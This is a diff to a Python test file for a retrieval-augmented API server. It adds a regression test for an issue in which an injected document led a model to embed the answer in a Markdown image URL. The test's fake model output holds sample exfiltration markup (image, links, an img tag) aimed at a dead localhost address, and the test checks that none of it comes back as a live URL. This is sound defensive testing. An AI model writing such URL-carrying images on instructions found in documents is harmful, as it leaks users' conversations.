@@ -46,12 +46,12 @@ class SlowFakeChat(GenericFakeChatModel):
 
 
 @contextlib.contextmanager
-def serving(tmp_path_factory, name: str, chat):
+def serving(tmp_path_factory, name: str, chat, **settings):
     """(base URL, a read key for alice, the workspace) of an in-process API server whose answer
     model is `chat` (a LangChain fake chat model: no paid API here)."""
     data = build_data(tmp_path_factory.mktemp(name))
-    settings = get_settings(data).model_copy(update={"llm_crag": False, "llm_condense": False, "llm_verify": False})
-    ws = Workspace(settings)
+    ws = Workspace(get_settings(data).model_copy(update={"llm_crag": False, "llm_condense": False, "llm_verify": False,
+                                                         **settings}))
     ws.__dict__["chat_model"] = chat  # before the answer engine is built from it
     key = ApiKeys(ws.db).create("alice", "read", by=Caller.operator()).key
     port = free_port()
@@ -144,3 +144,50 @@ def test_a_model_that_stops_inside_a_code_block_leaves_no_fence_open(tmp_path_fa
         q = httpx.post(f"{base}/v1/query", json={"question": "When does the office open?",
                                                  "knowledge_bases": ["handbook"]}, headers=auth, timeout=120).json()
         assert q["answer"].count("```") % 2 == 0, q["answer"]
+
+
+def test_a_models_image_or_link_never_comes_back_live(tmp_path_factory):
+    """Issue 51: a document told a model to write a Markdown image whose URL carries the answer,
+    and /v1/query and /v1/chat/completions returned it live (`![status](http://…/pixel.png?q=…)`,
+    `decided_by: model`): a front-end rendering that content fetches the image and leaks the
+    conversation. Every URL a model writes comes back as code (text/links.py), streamed or not;
+    checked by rendering with a CommonMark parser (has_live_url)."""
+    from langchain_core.language_models.fake_chat_models import FakeListChatModel
+
+    from rag_core.text.links import has_live_url
+
+    said = ("The office opens at 8 o'clock on weekdays [1]. ![Status](http://127.0.0.1:9/pixel.png?q=opens+at+8) "
+            "See [details](http://127.0.0.1:9/?q=office+opens+at+8) or <http://127.0.0.1:9/a> or "
+            "http://127.0.0.1:9/b. <img src=\"http://127.0.0.1:9/c.png\">")
+    # the policy that shows the model's answer as written (the issue's case: decided_by model)
+    with serving(tmp_path_factory, "exfil", FakeListChatModel(responses=[said] * 20),
+                 answer_policy="model") as (base, key, _):
+        auth = {"Authorization": f"Bearer {key}"}
+        msg = [{"role": "user", "content": "When does the office open?"}]
+        ask = {"question": "When does the office open?", "knowledge_bases": ["handbook"]}
+        q = httpx.post(f"{base}/v1/query", json=ask, headers=auth, timeout=120).json()
+        assert "8 o'clock" in q["answer"] and "127.0.0.1:9/pixel.png" in q["answer"], (q["decided_by"], q["reason"])
+        assert not has_live_url(q["answer"]), q["answer"]
+        assert not any(has_live_url(c["text"]) for c in q["claims"])
+        tokens, final = "", None
+        with httpx.stream("POST", f"{base}/v1/query", json={**ask, "stream": True}, headers=auth, timeout=120) as r:
+            event = None
+            for line in r.iter_lines():
+                if line.startswith("event: "):
+                    event = line[7:]
+                elif line.startswith("data: ") and event == "token":
+                    tokens += json.loads(line[6:])["text"]
+                elif line.startswith("data: ") and event == "answer":
+                    final = json.loads(line[6:])
+        assert tokens and not has_live_url(tokens), tokens
+        assert final and not has_live_url(final["answer"])
+        r = httpx.post(f"{base}/v1/chat/completions", json={"model": "groundwork/handbook", "messages": msg},
+                       headers=auth, timeout=120).json()
+        assert not has_live_url(r["choices"][0]["message"]["content"]), r["choices"][0]["message"]["content"]
+        streamed = ""
+        with httpx.stream("POST", f"{base}/v1/chat/completions", headers=auth, timeout=120,
+                          json={"model": "groundwork/handbook", "messages": msg, "stream": True}) as resp:
+            for line in resp.iter_lines():
+                if line.startswith("data: {"):
+                    streamed += json.loads(line[6:])["choices"][0]["delta"].get("content") or ""
+        assert "8 o'clock" in streamed and not has_live_url(streamed), streamed
